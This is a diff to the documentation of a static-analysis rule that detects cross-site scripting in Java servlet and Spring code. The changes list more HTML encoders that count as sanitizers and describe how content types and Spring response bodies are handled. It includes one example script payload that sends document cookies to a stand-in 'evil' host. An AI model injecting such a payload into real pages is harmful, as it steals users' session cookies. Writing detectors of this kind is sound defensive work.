@@ -6,8 +6,16 @@ Flags request data (``request.getParameter``, ``@RequestParam`` ...) that reache
 kind ``xss`` in ``data/models/java.toml``), followed through the method and same-file helpers by
 the dataflow core. HTML encoders make the value safe - OWASP Java Encoder ``Encode.forHtml``,
 ESAPI ``encodeForHTML``, Spring ``HtmlUtils.htmlEscape``, commons-text
-``StringEscapeUtils.escapeHtml4`` - and so do a number parse or an allow-list check; escaping
-for another kind (SQL, a file name) or Base64 does not.
+``StringEscapeUtils.escapeHtml4``, unbescape, Tomcat's ``HTMLFilter.filter`` - and so do a number
+parse or an allow-list check; escaping for another kind (SQL, a file name) or Base64 does not.
+``char[]`` and ``Object`` arguments (``print(value.toCharArray())``, ``printf``'s arguments) count.
+A method that sets a constant content type browsers do not render as HTML
+(``setContentType("application/json")``, ``text/plain``) is not reported.
+
+A Spring handler's return value is the response body when the method is ``@ResponseBody`` or
+its class ``@RestController``: a ``String`` handler returning request data is reported (Spring
+sends it as ``text/html`` to a browser that asks for HTML), unless its mapping ``produces``
+JSON, plain text or another non-HTML type. A plain ``@Controller`` returning a view name is not.
 
 ## Why is this bad?
 The browser runs whatever the response contains: a name like ``<script>fetch('//evil/'+document.cookie)</script>``
